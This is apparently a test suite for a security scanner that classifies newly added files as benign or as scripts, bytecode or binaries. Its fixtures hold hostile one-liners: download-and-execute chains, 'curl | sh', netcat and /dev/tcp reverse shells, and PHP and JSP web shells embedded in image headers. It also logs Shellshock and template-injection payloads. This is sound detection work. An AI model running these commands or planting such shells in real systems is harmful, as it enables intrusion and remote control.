import assert from 'node:assert/strict';
import { test } from 'node:test';
import { findArchiveList } from './archived-program.ts';
import { CONTENT_HEAD_BYTES } from './classify-content.ts';
import { classifyEntry } from './classify-entry.ts';

/** Reasons for a new file of mode 0644, its ends cut as a scan cuts them. */
function classify(path: string, content: string): string[] {
  const bytes = Buffer.from(content, 'latin1');
  const isLong = bytes.length > CONTENT_HEAD_BYTES;
  const tail = isLong ? bytes.subarray(-CONTENT_HEAD_BYTES) : undefined;
  const list = findArchiveList(tail ?? bytes, isLong ? bytes.length - CONTENT_HEAD_BYTES : 0);
  const archiveList = list && bytes.subarray(list.offset, list.offset + list.bytes);
  const head = bytes.subarray(0, CONTENT_HEAD_BYTES);
  const after = { mode: 0o644, uid: 0, gid: 0 };
  return classifyEntry({ kind: 'added', path, entryType: 'file', after, head, tail, archiveList });
}

/** A ZIP archive of empty files as far as its readers look at the end: list of names and end record. */
function zip(names: readonly string[], comment = ''): string {
  const uint = (value: number, bytes: number) => {
    const buffer = Buffer.alloc(bytes);
    buffer.writeUIntLE(value, 0, bytes);
    return buffer.toString('latin1');
  };
  const entries = names.map((name) => `PK\x01\x02${'\0'.repeat(24)}${uint(name.length, 2)}${'\0'.repeat(16)}${name}`);
  const list = entries.join('');
  const end = `${uint(names.length, 2).repeat(2)}${uint(list.length, 4)}\0\0\0\0${uint(comment.length, 2)}`;
  return `${list}PK\x05\x06\0\0\0\0${end}${comment}`;
}

const TRACE = 'Traceback (most recent call last):\n  File "/app/a.py", line 3, in <module>\n';
const NODE_TRACE = '/app/index.js:3\nconst x = require("./missing");\n          ^\n\nError: Cannot find module\n';
const XMP = '\xff\xd8\xff\xe0\0\x10JFIF\0<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?>\n<x:xmpmeta xmlns:x="a"/>';
const MAIL = 'From: a@example.com\nSubject: class\n\n';

const BENIGN: [path: string, content: string][] = [
  ['/var/log/app.log', `2026 ERROR\n${TRACE}    import yaml\nModuleNotFoundError\n`],
  ['/var/log/app.log', `ERROR\n${TRACE}    from app import views\nImportError\n`],
  ['/tmp/app.err', `${TRACE}    import yaml\n${TRACE}    def f(x):\n`],
  ['/data/logs/app.log', `2026 start\n${NODE_TRACE}`],
  ['/var/log/app.log', `2026 start\n${NODE_TRACE}`],
  ['/var/log/db.log', '2026 INFO\nexec sql foo\n'],
  ['/tmp/db.log', 'exec sql foo\n'],
  ['/var/log/import.log', 'import started, rows 5\nimport foo\n'],
  ['/tmp/import.log', 'import started\nimport finished\n'],
  ['/var/log/syslog', 'from x import y\n'],
  ['/var/log/php.log', 'PHP Warning: <?php tag\n'],
  ['/var/log/nginx/access.log', '1.2.3.4 - - "GET /?q=<?php system(1);?> HTTP/1.1" 404\n'],
  ['/var/log/nginx/access.log', '1.2.3.4 - - "GET /<%25eval request(1)%25> HTTP/1.1" 404\n'],
  ['/var/log/nginx/access.log', '1.2.3.4 "() { :; }; /bin/bash -c x; wget http://e/a; ./a" 404\n'],
  ['/var/log/app.log', '2026 q={{ __import__("os").popen("id") }}\n__import__("os")\n'],
  ['/var/log/nginx/example.com', '1.2.3.4 "GET /"\n'],
  ['/var/log/nginx/site.pl', '1.2.3.4 "GET /"\n'],
  ['/var/log/nginx/example.so.1', '1.2.3.4 "GET /"\n'],
  ['/var/cache/www.example.sh', 'cached'],
  ['/var/cache/app/example.com', 'cached'],
  ['/var/cache/nginx/a/1', 'KEY: http://x/\nHTTP/1.1 200\n\nconst x = require("y")\n'],
  ['/tmp/export.csv', 'id\r\n1\r\n2\r\n'],
  ['/tmp/export.csv', 'name,country\r\nMZ,Mozambique\r\n'],
  ['/tmp/countries.csv', 'MZ,Mozambique\nNA,Namibia\n'],
  ['/tmp/orders.txt', 'FOR1234 shipped\n'],
  ['/tmp/mail.txt', `${MAIL}class Action (x\n`],
  ['/tmp/mail.eml', `${MAIL}import duties are due.\nfrom now on import is free\nclass starts at ten\n`],
  ['/tmp/notes.txt', 'use Mysql;\nlocal time = none\nfor example; then we go\n'],
  ['/tmp/prose.txt', 'if it rains; then we stay.\nset the table; do not run || walk\n'],
  ['/tmp/man.txt', 'SEE ALSO\nopen(2)\nread(2)\nprintf(3)\n'],
  ['/tmp/panic.log', 'goroutine 1 [running]:\nmain.main()\n\t/app/main.go:12 +0x1d\nruntime.main()\n'],
  [
    '/tmp/java.log',
    'java.lang.ClassCastException\n\tat a.B.c(B.java:1)\nMap<?, ?> of Class<? extends Foo> and List<?>\n',
  ],
  ['/var/lib/app/state.json', '{\n"import": "os",\n"code": "import os;os.system(1)",\n"a": "require(\\"x\\")"\n}\n'],
  [
    '/var/lib/app/a.map',
    '{"version":3,"sources":["a.ts"],"sourcesContent":["import x from \\"y\\";\\nconst z=require(1)"]}',
  ],
  ['/var/lib/app/dump.sql', 'SET NAMES utf8;\nUSE `shop`;\nCREATE TABLE a (id int);\nINSERT INTO a VALUES (1);\n'],
  ['/data/pg.sql', "CREATE INDEX a ON b (c);\nSELECT * FROM words WHERE 'word' <% name ORDER BY name;\n"],
  ['/data/pg.sql', "SELECT pg_catalog.setval('public.a_id_seq', 1, false);\nALTER TABLE ONLY a ADD x text;\n"],
  ['/data/de.po', 'msgid "user <%s> not found"\nmsgstr "Benutzer <%s> fehlt, zu 100 %>"\n'],
  ['/data/de.mo', '\xde\x12\x04\x95\0\0\0\0user <%s> not found\0Benutzer <%1$s> fehlt\0'],
  ['/var/lib/app/a.xml', '<?xml version="1.0"?>\n<?xml-stylesheet type="text/xsl" href="a.xsl"?>\n<a/>'],
  ['/var/lib/app/a.xml', '<?XML VERSION="1.0"?>\n<?mso-application progid="Word.Document"?>\n<a/>'],
  [
    '/var/cache/app/page.html',
    '<!DOCTYPE html>\n<script type="module">\nimport {a} from "./a.js";\nlet b = 1\n</script>',
  ],
  ['/data/page.html', '<html>\n<script>\n(function(){ run() })();\nvar n = require("net");\n</script></html>'],
  ['/data/feed', '<?xml version="1.0"?>\n<rss>\nimport x from "y";\n</rss>'],
  ['/var/lib/app/uploads/a.jpg', XMP],
  ['/var/lib/app/uploads/a.svg', '<svg><?xpacket begin="\xef\xbb\xbf" id="W5"?></svg>'],
  ['/var/lib/app/uploads/a.docx', zip(['[Content_Types].xml', 'word/document.xml'])],
  ['/var/lib/app/uploads/a.odt', zip(['mimetype', 'META-INF/manifest.xml'])],
  [
    '/var/lib/app/uploads/words.txt',
    'an end record is PK\x05\x06 and __main__.py is a name of a program, as everybody knows',
  ],
  ['/run/app.env', 'PATH=/bin:/usr/bin\nexport A=1\nHOME=/root\n'],
  ['/var/lib/app/settings.ini', '[a]\nimport = yes\nlet = 1\nclass = x\n'],
];

for (const [path, content] of BENIGN) {
  test(`not relevant: ${path} ${JSON.stringify(content.slice(0, 40))}`, () => {
    assert.deepEqual(classify(path, content), []);
  });
}

const NAMES = Array.from({ length: 400 }, (_, at) => `assets/picture-${at}-of-a-long-name.png`);
const BINARY = '\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0';

const HOSTILE: [path: string, content: string, reason: string][] = [
  ['/tmp/x', 'cd /tmp; wget http://e/a; chmod +x a; ./a\n', 'script'],
  ['/tmp/x', '# nothing\ncurl -s http://e/a | sh\n', 'script'],
  ['/tmp/x', 'while true; do nc -e /bin/sh e 1; sleep 9; done\n', 'script'],
  ['/tmp/x', 'if [ -x /bin/sh ]\nthen\nexec /bin/sh -i\nfi\n', 'script'],
  ['/tmp/x', 'exec 5<>/dev/tcp/10.0.0.1/99\n', 'script'],
  ['/tmp/x', 'bash -i >& /dev/tcp/10.0.0.1/99 0>&1\n', 'script'],
  ['/tmp/x', '<html>\nwget http://e/a && chmod +x a\n', 'script'],
  ['/tmp/x', 'wget http://e/a\nrun() {\nchmod +x a\n}\n', 'script'],
  ['/tmp/x', 'exec("import os;os.system(1)")\n', 'script'],
  ['/tmp/x', '__import__("os").system("id")\n', 'script'],
  ['/tmp/x', 'import socket;socket.socket()\n', 'script'],
  ['/tmp/x', 'print(1)\nimport socket,subprocess\n', 'script'],
  ['/tmp/x', 'import os\nimport sys\nos.system("id")\n', 'script'],
  ['/tmp/x', '"""a text"""\nfrom os import system\n\ndef run():\n    system("id")\n', 'script'],
  ['/tmp/x', 'var n=require("net");\n', 'script'],
  ['/tmp/x', 'let n=require("net");\n', 'script'],
  ['/tmp/x', 'const {exec}=require("child_process")\n', 'script'],
  ['/tmp/x', 'require("child_process").exec("x")\n', 'script'],
  ['/tmp/x', 'import net from "net";\n', 'script'],
  ['/tmp/x', 'import{x}from"net"\n', 'script'],
  ['/tmp/x', 'import "./evil.mjs"\n', 'script'],
  ['/tmp/x', '(function(){ var n = 1; n.connect(); })();', 'script'],
  ['/tmp/x', 'use Socket;\n', 'script'],
  ['/tmp/x', 'use strict;\nuse IO::Socket::INET;\n', 'script'],
  ['/tmp/x', "require 'socket'\n", 'script'],
  ['/tmp/x', 'local s=require("socket")\n', 'script'],
  ['/tmp/x', 'os.execute("id")\n', 'script'],
  ['/tmp/x.jpg', 'GIF89a<?system(1);', 'script'],
  ['/tmp/x.jpg', 'GIF89a<?eval($_POST[1])?>', 'script'],
  ['/tmp/x.jpg', 'GIF89a<?//x\nsystem(1);', 'script'],
  ['/tmp/x.jpg', 'GIF89a<?=`$_GET[1]`?>', 'script'],
  ['/tmp/x.jpg', 'GIF89a<?=1?>', 'script'],
  ['/tmp/x.jpg', `${BINARY}<?system($_GET[1]);?>\0\0`, 'script'],
  ['/tmp/x.jpg', `${BINARY}<?=\`$_GET[1]\`?>\0\0`, 'script'],
  ['/tmp/x.jpg', `${BINARY}<?php system(1);\0`, 'script'],
  ['/tmp/x.jpg', '<?xml version="1.0"?><?system(1);?>', 'script'],
  ['/tmp/x.txt', '<%eval request("a")%>', 'script'],
  ['/tmp/x.txt', '<%Runtime.getRuntime()%>', 'script'],
  ['/tmp/x.jpg', `${BINARY}<%eval request("a")%>\0`, 'script'],
  ['/tmp/x.txt', `<%eval request("a")\n${"'".repeat(20_000)}\n%>`, 'script'],
  ['/tmp/x.txt', '<script language=php>x</script>', 'script'],
  ['/tmp/pyz', zip(['a.txt', '__main__.py']), 'bytecode'],
  ['/tmp/pyz', `# a text before it\n${zip(['__main__.py'])}`, 'bytecode'],
  ['/tmp/pyz', `${'x'.repeat(50_000)}${zip(['__main__.pyc', ...NAMES])}`, 'bytecode'],
  ['/tmp/pyz', `${'x'.repeat(50_000)}${zip(['a.txt', 'org/Main.class'], 'a comment')}`, 'bytecode'],
  ['/var/log/pyz', `# a text before it\n${zip(['__main__.py'])}`, 'bytecode'],
  ['/tmp/x', '\xa7\x0d\r\n\0\0\0\0', 'bytecode'],
  ['/tmp/x', '\xf3\x0d\r\n\x02\0\0\0', 'bytecode'],
  ['/tmp/x', '\x33\x0d\r\n\x10\x20\x30\x40\x10\0\0\0\xe3', 'bytecode'],
  ['/tmp/x', '\x03\xf3\r\n\x10\x20\x30\x40c', 'bytecode'],
  ['/tmp/x', 'MZ\x90\0\x03\0\0\0', 'bytecode'],
  ['/tmp/x', 'FOR1\0\0\x01\0BEAM', 'bytecode'],
  ['/var/log/x', '#!/bin/sh\n', 'script'],
  ['/var/log/x', '\x7fELF', 'elf'],
  ['/var/log/x', '<?php system(1);', 'script'],
  ['/var/log/x', '\n<?=`$_GET[1]`?>', 'script'],
  ['/var/log/x', '<%@ page import="a" %>', 'script'],
  ['/var/log/x', 'import os;os.system("id")\n', 'script'],
  ['/var/log/x', '\n\ncd /tmp; wget http://e/a; sh a\n', 'script'],
  ['/var/cache/x', 'import net from "net";\n', 'script'],
  ['/var/cache/x', 'a picture\n<?php system(1);', 'script'],
  ['/var/log/x.php', 'words', 'interpretedCode'],
  ['/var/cache/x.py', 'words', 'interpretedCode'],
  ['/var/lib/app/x.sh', 'words', 'interpretedCode'],
  ['/var/lib/app/x.so.1', 'words', 'sharedObject'],
];

for (const [path, content, reason] of HOSTILE) {
  test(`relevant: ${path} ${JSON.stringify(content.slice(0, 40))}`, () => {
    assert.ok(classify(path, content).includes(reason), classify(path, content).join());
  });
}

test('a directory is no code by its suffix, a file of that name is', () => {
  const directory = { mode: 0o755, uid: 0, gid: 0 };
  const facts = { kind: 'added', path: '/data/www/example.com', after: directory } as const;
  assert.deepEqual(classifyEntry({ ...facts, entryType: 'directory' }), []);
  assert.ok(classify('/data/www/example.com', 'words').includes('interpretedCode'));
});

test('an end record that lies about its list gives none', () => {
  const end = (bytes: number) => {
    const record = Buffer.alloc(22);
    record.write('PK\x05\x06', 'latin1');
    record.writeUInt32LE(bytes, 12);
    return record;
  };
  assert.equal(findArchiveList(end(1), 0), undefined);
  assert.equal(findArchiveList(end(0), 100), undefined);
  assert.equal(findArchiveList(end(40).subarray(0, 21), 100), undefined);
  assert.deepEqual(findArchiveList(end(40), 100), { offset: 60, bytes: 40 });
  assert.deepEqual(findArchiveList(end(2 ** 32 - 1), 2 ** 33)?.bytes, 4 << 20);
});
